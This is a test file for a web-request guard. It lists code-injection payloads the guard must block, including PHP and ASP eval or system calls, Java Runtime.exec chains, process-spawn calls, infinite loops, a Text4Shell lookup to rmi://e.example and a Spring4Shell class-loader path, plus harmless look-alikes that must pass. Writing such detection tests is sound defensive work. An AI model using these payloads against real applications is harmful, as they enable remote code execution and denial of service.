// Code injection (CWE-94, CWE-95) by what a program reaches, however it spells the name; and code-like texts that reach
// nothing.

import { describe, expect, test } from 'vitest'

import { refusing } from '../corpora/guard.ts'

const isRefused = refusing()

const PLACES = ['query', 'header', 'json', 'form', 'multipart']

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'classic ASP runs a text that is put together': [
    'Execute("res"&"ponse.write(1)")',
    'ExecuteGlobal request("a")',
    'execute(request("x"))',
    'Execute(Chr(82)&Chr(101)&"sponse.write 1")',
    'Eval ( "a" & "b" )',
    '<% Dim a : a = Request("x") : Execute a %>',
  ],
  'PHP behind a short tag': [
    '<? echo ID ?>',
    '<? PRINT x',
    '<? x or die(1)',
    '<? a XOR exit(1)',
    '<? in/**/ or x()',
    '<? include config ?>',
    '<?\nnew Gadget',
    '<? namespace a; system(x)',
    '<? a: goto a',
    '<? static fn() => x',
  ],
  'PHP calls a name that is put together, or given': [
    '(sy.(st).em)(whoami);',
    "('sys' . \"tem\")('id')",
    "array_diff_ukey(@array(1),@array(2),'assert')",
    "Array_Map('System', x)",
  ],
  'members of objects that lead to all others': [
    'Thread.currentThread().getContextClassLoader();',
    'sun.misc.Unsafe.getUnsafe();',
    '"".class.forName("x")',
    "Class['forName']('java.lang.Runtime')",
    'java.lang.RuntimeException: java.lang.Runtime.getRuntime().exec(x)',
    "x.bar(Foo.java:12)+''.class.forName('x')",
    "str(open('secret').read())",
    "Bun.spawn(['id'])",
    "process.binding('spawn_sync').spawn({file:'id'})",
    "Deno.run({cmd:['id']})",
    '@groovy.transform.ASTTest(value={assert 1})def x',
  ],
  'commands of languages that run on other machines': [
    'import scala.sys.process._; "id".!!',
    '(clojure.java.shell/sh "id")',
    '(shell-command-to-string "id")',
    'syscall.Exec("/bin/sh", nil, nil)',
    'std::system("id")',
    "base::system2('id')",
    "Process.runSync('id', [])",
    "ctypes.CDLL(None).system(b'id')",
    'Shell("cmd.exe")',
    'GetObject("winmgmts:").Get("Win32_Process").Create("calc")',
  ],
  'loops that do nothing for ever (CWE-835)': [
    '{{while(1){}}}',
    'setTimeout(function(){while (true) { }},1)',
    'x;for(;;);',
  ],
  'lookups that are decoded (CVE-2022-42889)': ['${${base64:am5kaQ==}:rmi://e.example/a}'],
  'class loaders by either case (CVE-2022-22965)': ['Class.module.classLoader.resources'],
  'elements that are called as a class': ['<entry><groovy.util.Expando/></entry>'],
}

describe('a program is refused', () => {
  const rows = Object.entries(ATTACKS).flatMap(([kind, list]) => list.map((text) => ({ kind, text })))
  test.each(rows)('$kind: $text', ({ text }) => {
    expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
  })
})

const HARMLESS: readonly string[] = [
  'Execute (as agreed) & report',
  'Evaluate(Request)',
  'while (rows.next()) {}',
  'the class (of 2014) and the open (read) hours',
  '(a.b)(c)',
  'array_map with a "system" of names',
  'reopen.reading(x)',
  'a shell (of eggs), and the shell of it',
  'scala.sys and clojure.java of old',
  'shell: true',
  '<jdk.version>1.8</jdk.version>',
  "migrate from process.binding('config') to getOptions()",
  'always spawnSync() it',
  'import order; from Monday',
  'java.lang.RuntimeException: boom\n\tat com.acme.Foo.bar(Foo.java:12)\n\tat java.lang.reflect.Constructor.newInstance(Constructor.java:423)',
  'Caused by: java.lang.RuntimeException\n\tat sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)',
  'a change to <? in Rule 3 and 4',
  '<? Some text of no program ?>',
  'import random; import sys; x = random.randint(0, 9); print(x)',
]

describe('what only looks like it', () => {
  test.each(HARMLESS)('%j passes', (text) => {
    expect(['query', 'json', 'form'].filter((where) => isRefused(where, text))).toEqual([])
  })
})
